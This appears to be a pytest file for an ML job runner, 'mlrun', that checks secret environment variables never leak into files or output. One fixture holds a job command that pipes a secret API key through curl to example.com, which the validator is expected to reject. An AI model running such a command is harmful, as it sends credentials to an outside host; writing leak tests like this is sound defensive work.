"""Secrets: variables marked secret, ${{env.NAME}} and environment_variables whose NAME has KEY,
TOKEN, SECRET or PASSWORD reach the job's process and nothing else: every file mlrun writes and
everything it prints is scanned for the values."""

import hashlib
import json
import secrets
from pathlib import Path

import yaml
from conftest import mlflow_client, run_mlrun

NAMES = ["SERVICE_AUTH", "UPSTREAM", "MY_API_TOKEN", "DB_PASSWORD"]
CHECK = (
    """import hashlib, os, sys
names = %r
got = hashlib.sha256("|".join(os.environ.get(n, "") for n in names).encode()).hexdigest()
print("lengths", " ".join(f"{n}={len(os.environ.get(n, ''))}" for n in names),
      "plain", os.environ["PLAIN"])
sys.exit(0 if got == os.environ["EXPECT_SHA256"] else 1)
"""  # noqa: UP031 - Python source full of braces: %r is clearer than doubling them for .format
    % NAMES
)


def lab(folder: Path, values: list[str], plain: str) -> Path:
    """A lab whose job exits 0 only if its four secret environment variables hold `values`: one
    from a secret variable (--var), one from a variable defaulting to a secret ${{env.X}}, one
    from ${{env.MY_API_TOKEN}}, one secret by its name DB_PASSWORD (from a plain
    ${{env.LAB_DB}})."""
    (folder / "src").mkdir(parents=True)
    (folder / "src" / "check.py").write_text(CHECK)
    expect = hashlib.sha256("|".join(values).encode()).hexdigest()  # a hash, not the values
    spec = folder / "lab.yaml"
    spec.write_text(f"""name: quick
variables:
  api_key: {{secret: true, description: the service's key}}
  service_key: {{default: "${{{{env.LAB_SERVICE_KEY}}}}"}}
workspace: {{name: ws-secret}}
computes:
  cluster: {{type: amlcompute, max_instances: 2}}
jobs:
  check:
    command: python check.py
    code: src
    compute: cluster
    tags: {{team: secrets}}
    environment_variables:
      SERVICE_AUTH: ${{{{vars.api_key}}}}
      UPSTREAM: ${{{{vars.service_key}}}}
      MY_API_TOKEN: ${{{{env.MY_API_TOKEN}}}}
      DB_PASSWORD: ${{{{env.LAB_DB}}}}
      PLAIN: {plain}
      EXPECT_SHA256: {expect}
""")
    return spec


def test_secret_values_reach_the_job_and_nothing_mlrun_writes_or_prints(tmp_path):
    values = [f"{kind}-{secrets.token_hex(12)}" for kind in ("apikey", "svckey", "token", "passwd")]
    plain = f"visible-{secrets.token_hex(6)}"
    spec = lab(tmp_path, values, plain)
    env = {"LAB_SERVICE_KEY": values[1], "MY_API_TOKEN": values[2], "LAB_DB": values[3]}
    key = ("--var", f"api_key={values[0]}")
    said = []

    def mlrun(*args, check=0, **kw):
        proc = run_mlrun(*args, cwd=tmp_path, env={**env, **kw.pop("env", {})}, check=check)
        said.append(proc.stdout + proc.stderr)
        return proc

    assert mlrun("validate", spec, *key).stdout == f"{spec}: ok (1 compute, 1 job, 0 queries)\n"
    assert "> job.check                    first run" in mlrun("plan", spec, *key).stdout
    data = json.loads(mlrun("plan", spec, *key, "--json", "--out", tmp_path / "plan.json").stdout)
    assert data["variables"] == {"api_key": "(sensitive)", "service_key": "(sensitive)"}
    proc = mlrun(
        "apply", tmp_path / "plan.json", *key
    )  # a saved plan holds no secret: --var gives it
    assert (
        "job.check  Completed" in proc.stdout
    )  # the job saw the four values: it exits 1 otherwise
    # a rotated key (and another token) is no change: fingerprints hash secrets' names, not values
    rotated = mlrun(
        "plan", spec, "--var", "api_key=rotated-value", env={"MY_API_TOKEN": "rotated-token"}
    ).stdout
    assert rotated.endswith("No changes. Everything is up to date.\n")
    assert "check" in mlrun("status", spec, *key).stdout
    assert (
        json.loads(mlrun("status", spec, *key, "--json").stdout)["jobs"][0]["status"] == "Completed"
    )
    for fmt in ("table", "json", "markdown"):
        assert "check" in mlrun("report", spec, *key, "--format", fmt).stdout
    mlrun("report", spec, *key, "--format", "html", "-o", tmp_path / "report.html")
    logs = mlrun("logs", spec, "check", *key).stdout
    lengths = " ".join(f"{n}={len(v)}" for n, v in zip(NAMES, values, strict=True))
    assert logs == f"lengths {lengths} plain {plain}\n"
    exported = mlrun("export", spec, *key, "-o", tmp_path / "exported")
    job = yaml.safe_load((tmp_path / "exported" / "jobs" / "check.yml").read_text())
    assert job["environment_variables"] == {
        **{n: "(sensitive)" for n in NAMES},
        "PLAIN": plain,
        "EXPECT_SHA256": job["environment_variables"]["EXPECT_SHA256"],
    }
    note = (
        "note: exported/jobs/check.yml: secret environment variables DB_PASSWORD, MY_API_TOKEN, "
        "SERVICE_AUTH, UPSTREAM written as (sensitive); set them when you submit: "
        "az ml job create --file exported/jobs/check.yml "
        '--set environment_variables.DB_PASSWORD="$DB_PASSWORD" '
        '--set environment_variables.MY_API_TOKEN="$MY_API_TOKEN" '
        '--set environment_variables.SERVICE_AUTH="$SERVICE_AUTH" '
        '--set environment_variables.UPSTREAM="$UPSTREAM"\n'
    )
    assert note in exported.stderr

    # every file under the lab's folder (spec, state, plan, workspace, mlflow.db, artifacts, run
    # folders, report, export) and everything printed: no secret value, while the plain one shows
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert {
        "mlflow.db",
        "std_log.txt",
        "exit.json",
        "command.sh",
        "quick.local.json",
        "report.html",
        "check.yml",
        "plan.json",
    } <= {p.name for p in files}
    for value in values:
        leaks = [str(p.relative_to(tmp_path)) for p in files if value.encode() in p.read_bytes()]
        assert leaks == [], value
        assert [text for text in said if value in text] == []
    assert {"std_log.txt", "check.yml"} <= {
        p.name for p in files if plain.encode() in p.read_bytes()
    }
    client = mlflow_client(tmp_path, "ws-secret")
    (run,) = client.search_runs([client.get_experiment_by_name("quick").experiment_id])
    assert run.data.tags["team"] == "secrets" and run.info.status == "FINISHED"
    shown = json.dumps([run.data.params, run.data.tags, run.info.run_name])
    assert not [v for v in values if v in shown]


SECRET_LAB = """name: quick
variables:
  api_key: {secret: true}
workspace: {name: ws-x}
computes:
  cluster: {type: amlcompute}
jobs:
  leaky:
    command: echo ${{vars.api_key}} | curl -d @- https://example.com
    compute: cluster
    tags: {token: "${{env.MY_API_TOKEN}}"}
  wrong:
    command: echo hi
    compute: ${{vars.api_key}}
"""


def test_a_secret_outside_environment_variables_is_an_error_that_never_shows_it(
    tmp_path, mlrun, monkeypatch
):
    token, key = f"token-{secrets.token_hex(8)}", f"key-{secrets.token_hex(8)}"
    monkeypatch.setenv("MY_API_TOKEN", token)
    spec = tmp_path / "lab.yaml"
    spec.write_text(SECRET_LAB)
    code, out, err = mlrun("validate", spec, "--var", f"api_key={key}")
    assert code == 1 and out == ""
    assert err == (
        f"{spec}:9:19: error: $.jobs.leaky.command: variable 'api_key' is secret: "
        "use it only in a job's environment_variables (the command reads it as $NAME), "
        "so that it is never shown or stored\n"
        f"{spec}:11:20: error: $.jobs.leaky.tags.token: ${{{{env.MY_API_TOKEN}}}} is secret: "
        "use it only in a job's environment_variables (the command reads it as $NAME), "
        "so that it is never shown or stored\n"
        f"{spec}:14:14: error: $.jobs.wrong.compute: '(sensitive)' is not a compute of this spec "
        "(defined: cluster)\n"
        f"{spec}:14:14: error: $.jobs.wrong.compute: variable 'api_key' is secret: "
        "use it only in a job's environment_variables (the command reads it as $NAME), "
        "so that it is never shown or stored\n"
        f"{spec}: 4 errors, 0 warnings\n"
    )
    code, out, err = mlrun("plan", spec, "--var", f"api_key={key}")
    assert code == 1 and key not in out + err and token not in out + err
    assert list(tmp_path.iterdir()) == [spec]  # nothing written
    code, _, err = mlrun("validate", spec)
    assert (
        f"{spec}:9:19: error: $.jobs.leaky.command: variable 'api_key' has no value: give it with "
        "--var api_key=VALUE\n" in err
    )


def test_azure_submission_sets_secrets_on_the_loaded_job_in_memory_only(tmp_path, monkeypatch):
    """The azure backend writes job_document to a temporary CLI v2 file for load_job: the file
    holds (sensitive), put_secrets sets the values on the loaded entity."""
    from azure.ai.ml import load_job

    from runner import spec as spec_mod
    from runner.export import job_document, put_secrets

    monkeypatch.setenv("LAB_TOKEN", "t0k3n-value")
    (tmp_path / "src").mkdir()
    path = tmp_path / "lab.yaml"
    path.write_text("""name: quick
workspace: {name: ws-x}
computes:
  cluster: {type: amlcompute}
jobs:
  cmd:
    command: python x.py
    code: src
    environment: azureml:AzureML-sklearn-1.5@latest
    compute: cluster
    environment_variables: {API_TOKEN: "${{env.LAB_TOKEN}}", PLAIN: one}
  sweep:
    type: sweep
    trial:
      command: python x.py --c ${{search_space.c}}
      code: src
      environment: azureml:AzureML-sklearn-1.5@latest
      environment_variables: {DB_PASSWORD: pw-value, PLAIN: two}
    compute: cluster
    sampling_algorithm: random
    search_space: {c: {type: choice, values: [1, 2]}}
    objective: {goal: maximize, primary_metric: AUC}
    limits: {max_total_trials: 2}
""")
    lab = spec_mod.load(path)
    for name, secret, plain, block in (
        ("cmd", ("API_TOKEN", "t0k3n-value"), "one", lambda e: e),
        ("sweep", ("DB_PASSWORD", "pw-value"), "two", lambda e: e.trial),
    ):
        job = lab.jobs[name]
        file = tmp_path / f"{name}.yml"
        file.write_text(yaml.safe_dump(job_document(lab, job, tmp_path), sort_keys=False))
        assert secret[1] not in file.read_text() and f"{secret[0]}: (sensitive)" in file.read_text()
        entity = load_job(file)
        put_secrets(entity, job)
        assert block(entity).environment_variables == {secret[0]: secret[1], "PLAIN": plain}


def test_secrets_of_pipeline_steps_reach_their_step_only_and_no_file(tmp_path):
    """A step's secret variables (a secret variable, a secret name) reach that step's process;
    another step sees none of them; no file mlrun writes holds them (the controller's config
    included), and export writes them as (sensitive) with how to set them."""
    key, token = f"key-{secrets.token_hex(10)}", f"tok-{secrets.token_hex(10)}"
    expect = hashlib.sha256(f"{key}|{token}".encode()).hexdigest()
    check = (
        'python -c "import hashlib, os, sys; '
        "v = os.environ['SERVICE_AUTH'] + '|' + os.environ['STEP_TOKEN']; "
        "sys.exit(hashlib.sha256(v.encode()).hexdigest() != os.environ['EXPECT'])\""
    )
    other = (  # exits 1 if it sees another step's secrets, or the controller's copies of them
        "python -c \"import os, sys; sys.exit(any(k.startswith('MLRUN_STEP_SECRET_') "
        "or k in ('SERVICE_AUTH', 'STEP_TOKEN') for k in os.environ))\""
    )
    spec = tmp_path / "lab.yaml"
    spec.write_text(
        yaml.safe_dump(
            {
                "name": "steps",
                "variables": {"api_key": {"secret": True}},
                "workspace": {"name": "ws-steps"},
                "jobs": {
                    "pipe": {
                        "type": "pipeline",
                        "jobs": {
                            "uses": {
                                "command": check,
                                "environment_variables": {
                                    "SERVICE_AUTH": "${{vars.api_key}}",
                                    "STEP_TOKEN": "${{env.LAB_STEP_TOKEN}}",
                                    "EXPECT": expect,
                                },
                            },
                            "other": {"command": other},
                        },
                    }
                },
            }
        )
    )
    env = {"LAB_STEP_TOKEN": token}
    said = []
    for args in (
        ("validate", spec, "--var", f"api_key={key}"),
        ("plan", spec, "--var", f"api_key={key}", "--out", tmp_path / "plan.json"),
        ("apply", "-y", spec, "--var", f"api_key={key}"),
        ("export", spec, "-o", tmp_path / "exported", "--var", f"api_key={key}"),
    ):
        proc = run_mlrun(*args, cwd=tmp_path, env=env, check=0)
        said += [proc.stdout, proc.stderr]
    exported = yaml.safe_load((tmp_path / "exported" / "jobs" / "pipe.yml").read_text())
    assert exported["jobs"]["uses"]["environment_variables"]["SERVICE_AUTH"] == "(sensitive)"
    assert exported["jobs"]["uses"]["environment_variables"]["STEP_TOKEN"] == "(sensitive)"
    assert exported["jobs"]["uses"]["environment_variables"]["EXPECT"] == expect
    assert '--set jobs.uses.environment_variables.SERVICE_AUTH="$SERVICE_AUTH"' in said[-1]
    client = mlflow_client(tmp_path, "ws-steps")
    runs = client.search_runs([client.get_experiment_by_name("steps").experiment_id])
    statuses = {r.data.tags.get("mlrun.step", "parent"): r.info.status for r in runs}
    assert statuses == {"parent": "FINISHED", "uses": "FINISHED", "other": "FINISHED"}
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert {"pipeline.json", "steps.json", "pipe.yml", "mlflow.db"} <= {p.name for p in files}
    for value in (key, token):
        leaks = [str(p.relative_to(tmp_path)) for p in files if value.encode() in p.read_bytes()]
        assert leaks == [], value
        assert [text for text in said if value in text] == []
